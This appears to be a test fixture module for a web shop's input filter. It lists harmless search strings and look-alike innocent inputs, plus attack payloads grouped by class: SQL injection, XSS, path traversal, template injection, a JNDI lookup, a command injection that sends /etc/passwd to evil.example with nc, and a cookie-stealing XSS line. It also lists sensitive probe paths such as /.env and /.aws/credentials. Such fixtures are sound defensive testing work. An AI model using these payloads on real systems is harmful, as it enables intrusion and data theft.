// What people type. `INNOCENT` looks like an attack to a careless filter and is none; `ATTACKS` are attacks, by class.

export const SEARCHES = ['blue shirt', 'lamp', 'novel', 'robot', 'garden hose', 'boot', 'kite', 'light blanket', 'wooden puzzle'];

export const INNOCENT = [
  "O'Brien", "D'Or", 'select shoes from the new catalogue', '<3', '100% cotton', '50% off', '👟🔥 wow', '蓝色衬衫',
  'حذاء أزرق', 'a<b && b>c', 'fish & chips', 'C:\\Users\\me', "rock 'n' roll t-shirt", 'union jack select range',
  'drop leaf table', 'size 10 or 11 = fine; -- thanks', 'café "Größe 42"', 'where is my order?', 'script font poster', '2 + 2 = 4',
];

export const ATTACKS = {
  sqli: ["' OR '1'='1' -- ", "1' UNION SELECT username, password FROM users -- ", "x'; DROP TABLE orders; -- ", "1' AND SLEEP(5) AND '1'='1"],
  xss: ['<script>alert(document.cookie)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=fetch("//evil.example/"+document.cookie)>'],
  path_traversal: ['../../../../etc/passwd'],
  command_injection: ['; cat /etc/passwd | nc evil.example 4444'],
  ssti: ['{{7*7}}${7*7}{{config.__class__.__init__.__globals__}}'],
  jndi: ['${jndi:ldap://evil.example/a}'],
};

export const UNKNOWN_PATHS = [
  '/.env', '/.git/config', '/.git/HEAD', '/.aws/credentials', '/.DS_Store', '/wp-login.php', '/wp-admin/setup-config.php',
  '/xmlrpc.php', '/phpmyadmin/index.php', '/phpinfo.php', '/admin', '/admin/login', '/administrator/', '/manager/html',
  '/console', '/actuator', '/actuator/env', '/actuator/heapdump', '/server-status', '/solr/admin/info/system',
  '/jenkins/login', '/api/admin', '/api/admin/users', '/api/users', '/api/v2/users', '/api/v3/orders', '/api/internal/config',
  '/api/graphql', '/graphql', '/swagger.json', '/swagger-ui.html', '/api-docs', '/openapi.yaml', '/backup.zip', '/backup.sql',
  '/db.sqlite', '/config.json', '/config.php.bak', '/old/', '/test/', '/tmp/', '/debug', '/trace', '/cgi-bin/status',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
];
